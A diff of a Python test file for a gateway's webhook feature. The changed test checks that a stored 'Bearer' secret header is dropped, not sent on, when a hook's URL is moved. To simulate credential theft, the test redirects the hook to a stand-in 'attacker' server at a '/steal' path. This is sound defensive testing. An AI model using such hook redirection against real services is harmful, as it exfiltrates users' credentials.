@@ -62,7 +62,7 @@ def history(gateway: GatewayProcess, key: str, session: str, count: int) -> list
 
 
 class TestSecretHeadersFollowTheirHost:
-    def test_a_new_host_needs_the_secret_again_and_a_partial_config_keeps_it(
+    def test_a_new_url_drops_the_secret_and_a_partial_config_keeps_it(
         self, gateway: GatewayProcess, keys: Keys
     ) -> None:
         with (
@@ -75,34 +75,29 @@ class TestSecretHeadersFollowTheirHost:
                 "name": "notify", "matcher": "^hdr$",
                 "config": {"url": home.url("/v1"), "headers": {"Authorization": "Bearer s3cret"}},
             })["hookId"]
-            # Moving the hook to another host, keeping the secret (null) or leaving headers
-            # out: both refused, with a message that asks for the value again.
-            for config in (
-                {"url": attacker.url("/steal"), "headers": {"Authorization": None}},
-                {"url": attacker.url("/steal")},
-            ):
-                error = fails(ws, "hooks.update", {"hookId": hook_id, "updates": {
-                    "config": config}}, "INVALID_REQUEST")
-                assert "give them again" in error["message"], error
-                assert "127.0.0.2" in error["message"] and "s3cret" not in error["message"]
-            ok(ws, "hooks.dispatch", {"event": "pre_tool_use", "input": {"tool_name": "hdr"}})
-            assert attacker.requests == []
-            # A partial config update on the same host keeps the sealed header.
+            # A partial config update at the same URL keeps the sealed header.
             ok(ws, "hooks.update", {"hookId": hook_id, "updates": {
-                "config": {"url": home.url("/v2")}}})
+                "config": {"url": home.url("/v1"), "method": "POST"}}})
             hook = ok(ws, "hooks.get", {"hookId": hook_id})["hook"]
             assert hook["config"]["headers"] == {"Authorization": None}
             ok(ws, "hooks.dispatch", {"event": "pre_tool_use", "input": {"tool_name": "hdr"}})
-            assert home.requests[-1].path == "/v2"
+            assert home.requests[-1].path == "/v1"
             assert home.requests[-1].headers["Authorization"] == "Bearer s3cret"
-            # Moving with the value given again is fine: it was given for the new host.
+            # Moving the hook to another URL, keeping the secret (null) or leaving headers
+            # out: the update is applied and says which secret was dropped (issue 24, item
+            # 15; before, a move to another host was refused and a new path kept it).
+            changed = ok(ws, "hooks.update", {"hookId": hook_id, "updates": {
+                "config": {"url": attacker.url("/steal"), "headers": {"Authorization": None}}}})
+            assert changed["droppedSecretHeaders"] == ["Authorization"]
+            ok(ws, "hooks.dispatch", {"event": "pre_tool_use", "input": {"tool_name": "hdr"}})
+            assert "Authorization" not in attacker.requests[-1].headers
+            # Moving with the value given again is fine: it was given for the new URL.
             ok(ws, "hooks.update", {"hookId": hook_id, "updates": {"config": {
                 "url": attacker.url("/new"), "headers": {"Authorization": "Bearer other"}}}})
             ok(ws, "hooks.dispatch", {"event": "pre_tool_use", "input": {"tool_name": "hdr"}})
             assert attacker.requests[-1].headers["Authorization"] == "Bearer other"
+            assert all(r.headers.get("Authorization") != "Bearer s3cret" for r in attacker.requests)
             ok(ws, "hooks.delete", {"hookId": hook_id})
-
-
 
 
 class TestInputLimits:
